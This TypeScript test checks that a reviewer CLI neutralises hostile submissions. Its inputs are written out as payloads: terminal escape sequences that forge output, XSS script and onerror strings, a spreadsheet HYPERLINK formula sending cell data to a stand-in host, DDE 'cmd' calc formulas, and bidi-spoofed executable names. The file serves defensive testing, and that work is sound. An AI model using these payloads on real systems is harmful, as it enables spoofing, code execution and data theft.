// A hostile submitter attacks the reviewer's machine. Everything in a sealed
// document is the submitter's: attachment names, answer ids and values, the
// message. A real bundle carries it through the real `sealbox review open` and
// `sealbox review stats` processes; the test then reads what reached the disk
// and the terminal, byte for byte.
import { spawn } from 'node:child_process';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { concatBytes, getSodium, sealEnvelope, toBase64Url } from '../../client-crypto/index.ts';
import { cycleEnv, processRunner } from '../reviewer/process-cycle.ts';
import { makeSetup, tempDir, writeBundle } from '../reviewer/fixtures.ts';

const cli = join(import.meta.dirname, '..', '..', 'reviewer', 'cli.ts');
const tsx = import.meta.resolve('tsx');

// What a terminal acts on: ESC, BEL and every other C0 but newline (tab is
// harmless), DEL, C1, bidi marks, embeddings, overrides and isolates, line and
// paragraph separators.
const TERMINAL_ACTIVE =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const FAKE = 'All items verified OK';

const TITLE = '\u001b]0;you have been owned\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const hostileAnswerId = `${TITLE}${CLEAR}\n${FAKE}\n`;

/** Names that passed unchanged before: each must end in .bin now. */
const RISKY_EXTENSIONS = [
  'help.chm',
  'addin.xll',
  'shortcut.scf',
  'search.library-ms',
  'launch.jnlp',
  'disk.vhdx',
  'legacy.xls',
  'a.terminal',
];

const hostileNames = [
  `${'A'.repeat(170)}.html.${'b'.repeat(100)}`,
  `${'B'.repeat(172)}.hta.${'c'.repeat(100)}`,
  `${'C'.repeat(172)}.exe.${'d'.repeat(100)}`,
  ...RISKY_EXTENSIONS,
  'CONIN$',
  'CONOUT$.txt',
  'invoice\u061cfdp.exe',
  'invoice\u202efdp.exe',
  'setup.exe. . .',
  '....',
  `"><img src=x onerror=alert(1)>.pdf`,
];
const harmless = /\.(pdf|txt|jpg|png|zip|docx|xlsx|mp4)$/i;

interface CommandResult {
  code: number;
  stdout: string;
  stderr: string;
}

// Strict enough for XML 1.0: only allowed characters, only known or numeric
// references to allowed characters, and balanced tags.
function xmlProblems(xml: string): string[] {
  const problems: string[] = [];
  const allowed = (cp: number): boolean =>
    cp === 0x9 ||
    cp === 0xa ||
    cp === 0xd ||
    (cp >= 0x20 && cp <= 0xd7ff) ||
    (cp >= 0xe000 && cp <= 0xfffd) ||
    (cp >= 0x10000 && cp <= 0x10ffff);
  for (const char of xml) {
    const cp = char.codePointAt(0)!;
    if (!allowed(cp) || (cp >= 0xd800 && cp <= 0xdfff))
      problems.push(`character U+${cp.toString(16)}`);
  }
  for (const [, ref] of xml.matchAll(/&([^;]*);?/g)) {
    const numeric = /^#(x[0-9a-f]+|[0-9]+)$/i.exec(ref ?? '');
    if (numeric) {
      const cp = numeric[1]!.startsWith('x')
        ? parseInt(numeric[1]!.slice(1), 16)
        : parseInt(numeric[1]!, 10);
      if (!allowed(cp)) problems.push(`reference &${ref};`);
    } else if (!['amp', 'lt', 'gt', 'quot', 'apos'].includes(ref ?? '')) {
      problems.push(`reference &${ref}`);
    }
  }
  const stack: string[] = [];
  const body = xml.replace(/^<\?xml[^>]*\?>/, '');
  for (const [tag, close, name, selfClose] of body.matchAll(
    /<(\/?)([A-Za-z][\w:-]*)(?:\s+[\w:-]+="[^"<]*")*\s*(\/?)>/g,
  )) {
    if (selfClose) continue;
    if (close) {
      if (stack.pop() !== name) problems.push(`unbalanced ${tag}`);
    } else stack.push(name!);
  }
  if (stack.length > 0) problems.push(`unclosed ${stack.join(', ')}`);
  const stray = body.replace(/<(\/?)([A-Za-z][\w:-]*)(?:\s+[\w:-]+="[^"<]*")*\s*(\/?)>/g, '');
  if (/[<>]/.test(stray)) problems.push('markup outside a tag');
  return problems;
}

// RFC 4180 with every cell quoted, as cases.csv is written.
function csvCells(csv: string): string[] {
  return [...csv.replace(/^\ufeff/, '').matchAll(/"((?:[^"]|"")*)"/g)].map((m) =>
    m[1]!.replace(/""/g, '"'),
  );
}

// Offending characters are listed by code point, never echoed: the test's
// own output goes to a terminal too.
function activeCharacters(text: string): string[] {
  const found = new Set<string>();
  for (const char of text) {
    if (TERMINAL_ACTIVE.test(char)) found.add(`U+${char.codePointAt(0)!.toString(16)}`);
  }
  return [...found];
}

function checkTerminal(t: Test, result: CommandResult): void {
  for (const [stream, text] of [
    ['stdout', result.stdout],
    ['stderr', result.stderr],
  ] as const) {
    t.same(activeCharacters(text), [], `nothing on ${stream} that a terminal acts on`);
    const forged = text.split('\n').filter((line) => line.trimStart().startsWith(FAKE));
    t.equal(forged.length, 0, `no forged line on ${stream}`);
  }
}

const dir = await tempDir(t);
const s = await makeSetup(dir);
const env = cycleEnv(join(dir, 'network.log'));
const sealbox = processRunner(process.execPath, ['--import', tsx, cli], env);

// An item whose answer id is a terminal attack, with a value that is not
// text: review open reports it by quoting the id.
const document = {
  v: 2,
  kind: 'submission',
  locale: 'en',
  form: 'reprisal-report',
  answers: { [hostileAnswerId]: 1 },
  message: 'x',
  attachments: [],
  replyPublicKey: toBase64Url(s.replyKeyPair.publicKey),
};
// Signed with the submitter's author key, as the page signs (docs/protocol.md,
// "Documents"), so that it is the document's content that is refused.
const documentBytes = new TextEncoder().encode(JSON.stringify(document));
const sodium = await getSodium();
const malformed = await sealEnvelope(
  'submission',
  s.sealing.keysetVersion,
  s.sealing.recipients.map((r) => ({ publicKey: r.publicKey })),
  concatBytes(
    s.authorKeyPair.publicKey,
    sodium.crypto_sign_detached(
      concatBytes(new TextEncoder().encode('sealbox/v2/document\n'), documentBytes),
      s.authorKeyPair.secretKey,
    ),
    documentBytes,
  ),
);
const bundle = join(dir, 'hostile.sbx');
await writeBundle(
  bundle,
  [
    {
      kind: 'submission',
      id: 'case-hostile',
      seq: 1,
      answers: {
        country: `${TITLE}${CLEAR}Narnia\n${FAKE}`,
        un_body: `other\r\n${FAKE}\u2028${FAKE}`,
        reprisal_kinds: [`\u202eevil\u202c`, `\u0001\u0002\u0008\u000b\u000c\u007f\u0085\u009b2J`],
        when: ` =HYPERLINK("http://x.example/?"&A1,"click")`,
        consent_public: "\u00a0+cmd|' /C calc'!A0",
        publicity_risk: "\n@SUM(1+1)*cmd|' /C calc'!A0",
        safe_contact: '\t=1+1',
        [hostileAnswerId]: `${CLEAR}${FAKE}`,
      },
      message: `${TITLE}</pre><script>alert(1)</script>`,
      files: hostileNames.map((name, i) => ({
        name,
        type: `text/html" onmouseover="alert(${i})`,
        bytes: new TextEncoder().encode(`<script>alert(${i})</script>`),
      })),
    },
    { kind: 'submission', id: 'case-malformed', seq: 2, envelope: malformed },
  ],
  s.sealing,
  s,
);

const open = await sealbox(
  ['review', 'open', bundle, '--key', s.anaKey, '--cases', 'cases',
    '--keyset', s.keysetFile, '--organisation', s.orgFingerprint],
  dir,
); // prettier-ignore

// Every process runs before the first test is declared (tap ends the root
// test when it runs out of declared tests).
const stats = await sealbox(['review', 'stats', '--cases', 'cases'], dir);

t.test('review open prints nothing a terminal would act on', async (t) => {
  t.equal(open.code, 6, 'the malformed item is reported as a problem');
  // Matched, not echoed (see activeCharacters).
  t.ok(/Opened 1 new item/.test(open.stdout));
  t.ok(/Skipped item case-malformed: answer .*All items verified OK/.test(open.stdout));
  checkTerminal(t, open);
});

t.test('attachments are written under names that open nothing', async (t) => {
  const item = join(dir, 'cases', 'case-hostile', '01-submission-2026-11-20');
  const names = await readdir(join(item, 'attachments'));
  t.equal(names.length, hostileNames.length, 'every attachment was written');
  for (const name of names) {
    t.ok(harmless.test(name) || name.endsWith('.bin'), `${name.slice(-24)} ends harmlessly`);
    t.ok(Buffer.byteLength(name) <= 180);
    t.notMatch(name, /[\u0000-\u001f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069<>:"|?*]/);
    t.notMatch(name, /^(con|prn|aux|nul|conin\$|conout\$|com\d|lpt\d)(\s*\..*)?$/i);
    t.notMatch(name, /[.\s]$/);
  }
  for (const kept of RISKY_EXTENSIONS) {
    t.ok(names.includes(`${kept}.bin`), `${kept} becomes ${kept}.bin`);
  }
  t.ok(names.includes('_CONIN$.bin'));
  t.ok(names.includes('_CONOUT$.txt'));

  const page = await readFile(join(dir, 'cases', 'case-hostile', 'index.html'), 'utf8');
  t.notMatch(page, /<script|<img/i, 'markup from the bundle stays text');
  t.match(page, /&#60;img src=x onerror=alert\(1\)&#62;/);
  const links = [...page.matchAll(/href="([^"]*)"/g)].map((m) => m[1]!);
  t.ok(links.includes('../index.html'));
  for (const href of links.filter((l) => l !== '../index.html')) {
    t.match(href, /^[\w.~!*'()%/-]*$/, `link stays a relative path: ${href.slice(0, 40)}`);
    t.notMatch(href, /^[a-z]+:|^\/|(^|\/)\.\.(\/|$)/i);
  }
  const fileLinks = links.filter((l) => l.includes('/attachments/'));
  t.same(
    fileLinks.map((l) => decodeURIComponent(l.split('/').pop()!)).sort(),
    [...names].sort(),
    'each link names a file that was written',
  );
  for (const [, attribute] of page.matchAll(/<[a-z]+((?:\s+[\w-]+(?:="[^"]*")?)*)\s*>/g)) {
    t.notMatch(attribute, /\son\w+=/i, 'no event-handler attribute');
  }
});

t.test('review stats prints nothing a terminal would act on', async (t) => {
  t.equal(stats.code, 0);
  t.ok(/Narnia/.test(stats.stdout), 'the hostile label is shown, cleaned');
  checkTerminal(t, stats);
});

t.test('statistics.svg stays well-formed XML with no control characters', async (t) => {
  const svg = await readFile(join(dir, 'cases', 'statistics.svg'), 'utf8');
  t.same(xmlProblems(svg), []);
  t.same(activeCharacters(svg), []);
  t.notMatch(svg, /<script/i);
  t.match(svg, /Narnia/);
});

t.test('no cell of cases.csv can start a formula', async (t) => {
  const csv = await readFile(join(dir, 'cases', 'cases.csv'), 'utf8');
  const cells = csvCells(csv);
  t.ok(
    cells.some((c) => c.includes('HYPERLINK')),
    'the hostile cells are there',
  );
  for (const cell of cells) {
    t.notMatch(
      cell,
      /^[\s\u0000-\u001f\u00a0\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/,
      `cell ${JSON.stringify(cell.slice(0, 20))} is inert`,
    );
  }
});
t.test('sealbox exits quietly when its reader closes the pipe', async (t) => {
  const child = spawn(process.execPath, ['--import', tsx, cli, 'help'], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { PATH: process.env.PATH, HOME: process.env.HOME },
  });
  // Like `sealbox help | head -0`: the reader is gone before the first write.
  child.stdout.destroy();
  let stderr = '';
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  t.equal(stderr, '', 'no stack trace, no message');
  t.equal(code, 0);
});
